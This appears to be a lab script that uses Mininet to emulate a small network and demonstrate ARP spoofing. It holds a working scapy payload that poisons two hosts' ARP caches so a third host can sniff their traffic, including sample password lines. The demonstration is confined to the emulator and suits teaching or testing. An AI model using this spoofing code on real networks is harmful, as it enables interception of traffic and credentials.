#!/usr/bin/env python3
"""ARP spoofing with scapy: the attacker reads what h1 sends to h2."""

from time import sleep

from mininet.log import output, setLogLevel
from mininet.net import Mininet
from mininet.topo import SingleSwitchTopo

SPOOF = """
from scapy.all import ARP, Ether, sendp
victim, other = "10.0.0.1", "10.0.0.2"
macs = {"10.0.0.1": "00:00:00:00:00:01", "10.0.0.2": "00:00:00:00:00:02"}
for _ in range(5):
    for a, b in ((victim, other), (other, victim)):
        sendp(Ether(dst=macs[a]) / ARP(op=2, pdst=a, hwdst=macs[a], psrc=b), iface="h3-eth0", verbose=False)
"""

setLogLevel("info")
net = Mininet(topo=SingleSwitchTopo(k=3), autoSetMacs=True)
net.start()
h1, h2, h3 = net.get("h1", "h2", "h3")
h1.cmd("ping -c 1", h2.IP())
output("before: " + h1.cmd("ip neigh show 10.0.0.2"))
open("spoof.py", "w").write(SPOOF)
h3.cmd("sysctl -w net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.h3-eth0.send_redirects=0")
h3.cmd("timeout 20 tcpdump -n -l -i h3-eth0 udp port 5555 > sniffed.txt 2>/dev/null &")
sleep(2)  # Linux keeps an address for a second
h3.cmd("python3 spoof.py")
output("after: " + h1.cmd("ip neigh show 10.0.0.2"))
h2.cmd("nc -u -l -p 5555 > got.txt &")
sleep(1)
h1.cmd("for i in 1 2 3; do echo password$i; sleep 1; done | nc -u -w 3 10.0.0.2 5555")
sleep(20)
output("h2 got %d lines\n" % len(open("got.txt").readlines()))
output("h3 saw %d packets\n" % open("sniffed.txt").read().count(" UDP, "))
net.stop()
